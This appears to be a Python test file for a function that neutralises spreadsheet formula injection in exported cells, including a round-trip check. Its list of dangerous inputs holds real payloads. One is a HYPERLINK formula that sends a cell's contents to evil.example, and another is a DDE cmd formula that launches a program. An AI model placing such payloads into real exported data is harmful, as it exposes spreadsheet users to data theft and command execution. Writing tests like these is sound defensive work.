import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.web.cells import defused

DANGEROUS = [
    '=HYPERLINK("https://evil.example/?"&A1,"look")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000＝1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    '"=1+1',
    " '\"=1+1",
]
HARMLESS = [
    "",
    "Hello",
    "1+1=2",
    "a-b",
    "me@example.org",
    "'quoted'",
    "“Well”",
    "really;-)",
    "see above ;-)",
    "a; b",
    "🎓",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_what_looks_like_a_formula_becomes_text(text: str) -> None:
    assert defused(text).startswith("'")


@pytest.mark.parametrize("text", HARMLESS)
def test_what_cannot_be_one_stays_as_it_is(text: str) -> None:
    assert defused(text) == text


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("yes;=1+1", "yes;'=1+1"),
        ('yes; "=1+1', "yes;' \"=1+1"),
        ("yes；=1+1", "yes；'=1+1"),
        ("a list\n- one\n- two", "a list\n'- one\n'- two"),
        ("yes\r\n=1+1", "yes\r\n'=1+1"),
    ],
)
def test_a_text_that_is_torn_in_two_has_no_formula_in_its_second_half(text: str, cell: str) -> None:
    assert defused(text) == cell


def restored(cell: str) -> str:
    """As somebody does it who reads the page about the contract."""
    signs, before = r"[=+\-@＝＋－＠−]", r"[ \xa0\u3000'\"’＇＂“”]*"
    at_first = rf"\A'(?={before}(?:{signs}|[\t\r\n\0]))"
    return re.sub(rf"{at_first}|(?<=[;；\t\r\n])'(?={before}{signs}(?!\)))", "", cell)


@given(st.text(alphabet="=+-@＝＠;；\t\r\n '\"’a)1\u3000\xa0", max_size=12))
def test_every_text_can_be_had_back(text: str) -> None:
    assert restored(defused(text)) == text
